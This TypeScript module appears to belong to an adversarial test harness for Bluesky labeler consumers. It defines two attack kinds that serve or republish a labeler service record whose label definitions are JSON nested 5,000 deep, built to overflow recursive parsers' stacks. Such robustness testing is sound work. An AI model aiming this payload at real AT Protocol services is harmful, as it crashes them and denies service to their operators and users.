import type { Kind } from '../attack.ts';
import { deepJson } from '../bytes.ts';
import { commitText } from '../jetstream.ts';
import { sendRecord } from '../sound.ts';

/** Nesting depth at which a recursive parser or writer overflows its stack. The record has only 10 kB. */
const depth = 5_000;

const record = `{"$type":"app.bsky.labeler.service","createdAt":"2026-01-05T09:00:00.000Z","policies":{"labelValues":["spam"],"labelValueDefinitions":${deepJson(depth)}}}`;

/** Serves deeply nested definitions in the record on its own PDS. */
export const deepDefinitions: Kind = {
  name: 'deep-definitions',
  does: 'serves label definitions nested 5,000 deep from its own PDS',
  attack: ({ labeler }) => ({ stream: null, record: ({ response }) => sendRecord(response, labeler.did, record) }),
};

/** Publishes deeply nested definitions in a record on the Jetstream. */
export const deepAnnouncement: Kind = {
  name: 'deep-announcement',
  does: 'publishes label definitions nested 5,000 deep on the Jetstream',
  attack: ({ labeler }) => {
    let written = 0;
    return {
      stream: null,
      // Rewrite the record every ten seconds.
      announce: () => (written++ % 100 === 0 ? [commitText(labeler.did, record)] : []),
    };
  },
};
